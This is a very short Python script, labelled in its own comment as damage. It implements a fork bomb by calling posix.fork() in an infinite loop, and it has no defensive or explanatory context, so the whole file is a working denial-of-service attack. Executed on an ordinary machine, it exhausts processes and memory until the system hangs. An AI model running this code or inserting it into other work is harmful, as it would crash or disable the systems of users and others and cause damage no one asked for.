# Damage: a fork bomb through posix.
import posix

while True:
    posix.fork()
